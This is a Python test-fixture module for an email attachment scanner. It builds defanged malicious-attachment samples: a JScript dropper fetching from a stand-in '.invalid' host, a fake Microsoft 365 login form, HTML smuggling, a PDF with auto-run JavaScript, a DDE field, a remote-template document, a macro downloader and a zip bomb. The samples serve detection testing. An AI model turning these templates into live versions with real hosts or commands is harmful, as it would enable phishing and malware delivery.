"""Harmless attachment samples built in memory for the payload tests.

Every "malicious" sample is inert: scripts and macros point at reserved ``.invalid`` names, the
shortcut starts nothing, the zip bomb is zeros. Only the VBA project is a committed file (see
``tests/messages/payload/README.md``).
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from email.message import EmailMessage
from html import escape
from pathlib import Path

import numpy
import py7zr
import pycdlib
import pyzipper
import zxingcpp
from msoffcrypto.format.ooxml import OOXMLFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from rempart.config import Limits
from rempart.message.model import Message
from rempart.message.parse import parse_message

SAMPLES = Path(__file__).resolve().parents[2] / "messages" / "payload"
DROPPER_JS = (
    b'var sh = new ActiveXObject("WScript.Shell");\r\n'
    b'var x = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
    b'x.open("GET", "http://cdn.example.invalid/p.bin", false); x.send();\r\n'
    b'sh.Run("cmd /c echo harmless-test-sample", 0);\r\n'
)
LNK_HEADER = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"


def message(body: str, attachments: list[tuple[str, bytes, str]], subject: str = "Facture") -> Message:
    msg = EmailMessage()
    msg["From"] = "Comptabilité <compta@fournisseur.example>"
    msg["To"] = "achats@client.example"
    msg["Subject"] = subject
    msg.set_content(body)
    for name, data, mime in attachments:
        maintype, subtype = mime.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return parse_message(msg.as_bytes(), Limits())


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def encrypted_zip(members: dict[str, bytes], password: str) -> bytes:
    out = io.BytesIO()
    with pyzipper.AESZipFile(out, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password.encode())
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb(megabytes: int = 300) -> bytes:
    """``megabytes`` MB of zeros, deflated while streaming (never held in memory whole)."""
    out = io.BytesIO()
    chunk = bytes(1 << 20)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("donnees.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(chunk)
    return out.getvalue()


def seven_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return out.getvalue()


def tar_gz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def lnk() -> bytes:
    """A shortcut header followed by an inert target string (it would start nothing)."""
    target = "C:\\Windows\\System32\\cmd.exe /c echo harmless-test-sample".encode("utf-16-le")
    return LNK_HEADER + bytes(56) + target


def iso_with(files: dict[str, bytes]) -> bytes:
    iso = pycdlib.PyCdlib()
    iso.new(joliet=3)
    for index, (name, data) in enumerate(files.items(), 1):
        iso.add_fp(io.BytesIO(data), len(data), f"/FILE{index}.;1", joliet_path=f"/{name}")
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def html_smuggling() -> bytes:
    return b"""<!doctype html><html><body><p>Chargement du document...</p><script>
var data = "UEsDBBQAAAAIAAAAIQB0ZXN0LXNhbXBsZS1vbmx5";
var raw = atob(data); var bytes = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = URL.createObjectURL(blob);
a.download = "Facture_2024.iso"; document.body.appendChild(a); a.click();
</script></body></html>"""


def credential_page() -> bytes:
    return b"""<html><head><title>Microsoft 365</title></head><body>
<form method="post" action="https://collect.example.invalid/post.php">
<input type="email" name="login" placeholder="Adresse e-mail">
<input type="password" name="passwd" placeholder="Mot de passe">
<button type="submit">Se connecter</button></form></body></html>"""


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_open_action_js() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject('app.alert("harmless test sample");'),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_with_link(url: str) -> bytes:
    """An ordinary PDF: one page with a clickable link (a URI action the reader must click)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(80)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject(url),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _pdf(writer)


def pdf_with_attachment(name: str, data: bytes) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment(name, data)
    return _pdf(writer)


def pdf_with_text(lines: list[str]) -> bytes:
    """A one-page PDF showing ``lines`` in Helvetica, as an invoice or a "receipt" lure is made."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
        NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
    })
    page[NameObject("/Resources")] = DictionaryObject({
        NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)}),
    })

    def escaped(line: str) -> str:
        return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    ops = [f"BT /F1 11 Tf 60 {780 - 16 * n} Td ({escaped(line)}) Tj ET" for n, line in enumerate(lines)]
    content = StreamObject()
    content.set_data("\n".join(ops).encode("cp1252"))
    page[NameObject("/Contents")] = writer._add_object(content)
    return _pdf(writer)


def pdf_with_qr_image(url: str) -> bytes:
    """A page whose only content is a QR code image (how "quishing" PDFs look)."""
    image = qr_image(url)
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    xobject = StreamObject()
    xobject[NameObject("/Type")] = NameObject("/XObject")
    xobject[NameObject("/Subtype")] = NameObject("/Image")
    xobject[NameObject("/Width")] = NumberObject(image.width)
    xobject[NameObject("/Height")] = NumberObject(image.height)
    xobject[NameObject("/ColorSpace")] = NameObject("/DeviceGray")
    xobject[NameObject("/BitsPerComponent")] = NumberObject(8)
    xobject.set_data(image.tobytes())
    page[NameObject("/Resources")] = DictionaryObject(
        {
            NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(xobject)}),
        }
    )
    return _pdf(writer)


def pdf_with_vector_qr(url: str) -> bytes:
    """A QR code drawn as filled squares in the page content, as PDF generators do."""
    modules = numpy.array(zxingcpp.create_barcode(url, zxingcpp.BarcodeFormat.QRCode).to_image(scale=1))
    squares = [
        f"{60 + 3.2 * col:.1f} {740 - 3.2 * row:.1f} 3.2 3.2 re"
        for row in range(modules.shape[0])
        for col in range(modules.shape[1])
        if modules[row, col] < 128
    ]
    text = "BT /F1 10 Tf 60 800 Td (Scannez ce code avec votre smartphone) Tj ET\n0 0 0 rg\n"
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    content = StreamObject()
    content.set_data((text + "\n".join(squares) + "\nf\n").encode("ascii"))
    page[NameObject("/Contents")] = writer._add_object(content)
    return _pdf(writer)


def qr_image(url: str) -> Image.Image:
    code = zxingcpp.create_barcode(url, zxingcpp.BarcodeFormat.QRCode)
    return Image.fromarray(numpy.array(code.to_image(scale=6))).convert("L")


def png(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def jpeg(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.convert("RGB").save(out, "JPEG", quality=85)
    return out.getvalue()


def photo() -> Image.Image:
    """A picture with no code in it."""
    return Image.effect_noise((640, 480), 50).convert("RGB")


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Facture 2024-118</w:t></w:r></w:p></w:body>'
    b"</w:document>"
)


def _rels(*relationships: str) -> bytes:
    inner = "".join(relationships)
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships">{inner}</Relationships>'
    ).encode()


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A plain Word document with one hyperlink (an ordinary external relationship)."""
    members = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "word/document.xml": _DOCUMENT,
        "word/_rels/document.xml.rels": _rels(
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/hyperlink" Target="https://www.fournisseur.example/conditions" '
            'TargetMode="External"/>'
        ),
    }
    members.update(extra or {})
    return zip_of(members)


def docx_with_text(paragraphs: list[str]) -> bytes:
    """A Word document whose body is ``paragraphs``; each split into two runs, as Word writes them."""
    def paragraph(text: str) -> str:
        half = len(text) // 2
        runs = (text[:half], text[half:])
        return "<w:p>" + "".join(f'<w:r><w:t xml:space="preserve">{escape(r)}</w:t></w:r>' for r in runs) + "</w:p>"

    body = "".join(paragraph(p) for p in paragraphs)
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
    )
    return docx({"word/document.xml": document.encode("utf-8")})


def docx_remote_template(target: str) -> bytes:
    return docx(
        {
            "word/_rels/settings.xml.rels": _rels(
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                f'relationships/attachedTemplate" Target="{target}" TargetMode="External"/>'
            ),
        }
    )


def docx_dde() -> bytes:
    document = _DOCUMENT.replace(
        b"<w:r><w:t>Facture 2024-118</w:t></w:r>",
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32'
        b'\\\\cmd.exe "/k echo harmless-test-sample"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    return docx({"word/document.xml": document})


def docm() -> bytes:
    """A macro-enabled Word document carrying the committed auto-open downloader macro."""
    return docx({"word/vbaProject.bin": (SAMPLES / "auto_open_download.vbaProject.bin").read_bytes()})


def _rezip(document: bytes, comment: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(document))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.comment = comment
    return out.getvalue()


def encrypt_office(document: bytes, password: str) -> bytes:
    """Office "Agile" encryption. msoffcrypto-tool 6.1 mis-pads a last segment shorter than 4096 bytes
    when encrypting (Office's own files decrypt fine), so the zip is padded with its comment first."""
    plain = _rezip(document, b"")
    padded = _rezip(document, b" " * (-len(plain) % 4096))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(padded)).encrypt(password, out)
    return out.getvalue()


def onenote_with(payload: bytes) -> bytes:
    """A OneNote section header and one FileDataStoreObject holding ``payload``."""
    header = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
    store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + len(payload).to_bytes(8, "little") + bytes(12)
    return header + store + payload + bytes.fromhex("22a7fb71797f4437a6cc00f1a69d9c4e")
